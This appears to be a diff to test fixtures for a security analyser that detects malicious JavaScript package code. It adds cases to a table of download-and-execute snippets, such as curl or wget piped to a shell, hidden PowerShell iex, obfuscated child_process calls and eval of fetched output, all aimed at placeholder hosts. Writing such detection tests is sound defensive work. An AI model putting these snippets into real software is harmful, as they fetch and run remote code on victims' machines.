@@ -92,6 +92,8 @@ static const struct shape shapes[] = {
 	{"command downloads", "require('child_process').execSync('curl -s https://i3.vendor.example/s.sh | sh');", FACT_FLOW, "net>exec", NULL},
 	{"command downloads, computed", "const cp = require('child' + '_process'); cp['ex' + 'ecSync']('wget -qO- ' + 'https://i4.vendor.example/s | ba' + 'sh');", FACT_FLOW, "net>exec", NULL},
 	{"powershell", "require('child_process').exec('powershell -w hidden -c \"iex (iwr https://i5.vendor.example/p.ps1)\"');", FACT_FLOW, "net>exec", NULL},
+	{"a shell's own download", "eval(require('child_process').execSync(\"sh -c 'curl -s https://i7.vendor.example/a'\").toString());", FACT_FLOW, "net>code", NULL},
+	{"a shell with a list", "eval(require('child_process').execFileSync('bash', ['-lc', 'wget -qO- https://i8.vendor.example/a']).toString());", FACT_FLOW, "net>code", NULL},
 	{"reflect apply", "Reflect.apply(require('child_process').exec, null, ['curl https://i6.vendor.example/a | bash']);", FACT_FLOW, "net>exec", NULL},
 	{"through main module", "process.mainModule.require('child_process').execSync('curl https://i7.vendor.example/a | bash');", FACT_FLOW, "net>exec", NULL},
 	{"global require", "globalThis['re' + 'quire']('child_process').exec('curl https://i8.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
@@ -181,6 +183,7 @@ struct innocent {
 };
 
 static const struct innocent innocents[] = {
+	{"a shell's own download is shown", "console.log(require('child_process').execSync(\"sh -c 'curl -s https://api.vendor.example/v'\").toString());", NULL},
 	{"template engine", "function compile(text) { var source = \"var p='\" + text.replace(/'/g, \"\\\\'\") + \"';return p;\"; return new Function('obj', source); }\nmodule.exports = compile;", NULL},
 	{"global this", "var root = Function('return this')(); var g = typeof globalThis !== 'undefined' ? globalThis : new Function('return this')();", NULL},
 	{"feature test", "try { new Function(''); supported = true } catch (e) { supported = false }", NULL},
